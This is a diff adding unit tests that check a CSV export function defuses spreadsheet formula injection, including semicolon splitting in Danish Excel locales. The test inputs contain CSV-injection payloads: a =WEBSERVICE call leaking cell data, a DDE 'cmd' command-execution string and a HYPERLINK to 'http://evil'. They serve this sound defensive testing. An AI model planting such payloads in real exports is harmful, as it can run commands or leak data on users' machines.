@@ -46,4 +46,43 @@ describe('explorer result as CSV', () => {
       '',
     ]);
   });
+
+  it('defuses the header lines as it defuses cells: no formula after a comma or semicolon (issue 12)', () => {
+    const csv = resultToCsv({
+      columns: [{ name: 'a' }],
+      rows: [[1]],
+      sql: `SELECT 1 AS a -- ,=WEBSERVICE("http://127.0.0.1:9/?"&A1);+cmd|' /C calc'!A0\n--\t@SUM(1)`,
+      pageUrl: 'https://example.org/?page=explore#x,=HYPERLINK("http://evil")',
+      sourceNote: 'Kilder; -2+3',
+    });
+    const header = csv.split('\r\n').filter((l) => l.replace('\uFEFF', '').startsWith('#'));
+    expect(header).toHaveLength(4);
+    for (const line of header) {
+      // Every piece a spreadsheet cuts the line into at , ; or tab is inert text.
+      for (const piece of line.split(/[,;\t]/).slice(1)) expect(piece).not.toMatch(/^\s*[=+\-@]/);
+      expect(line).not.toContain('"');
+    }
+    expect(header[0]).toBe(
+      `\uFEFF# Løftetjek: https://example.org/?page=explore#x,'=HYPERLINK(”http://evil”)`,
+    );
+    expect(header[2]).toContain(`-- ,'=WEBSERVICE(”http://127.0.0.1:9/?”&A1);'+cmd|`);
+  });
+
+  it('quotes cells with a semicolon, which Excel in a Danish locale splits at', () => {
+    const csv = resultToCsv({
+      columns: [{ name: 'a;b' }, { name: 'c' }],
+      rows: [
+        ['x;=1+1', 'plain'],
+        ['=2;3', 'say "hi"; bye'],
+      ],
+      sql: 'SELECT 1',
+      pageUrl: 'u',
+      sourceNote: 's',
+    });
+    expect(csv.split('\r\n').slice(3, 6)).toEqual([
+      '"a;b",c',
+      '"x;=1+1",plain',
+      `"'=2;3","say ""hi""; bye"`,
+    ]);
+  });
 });
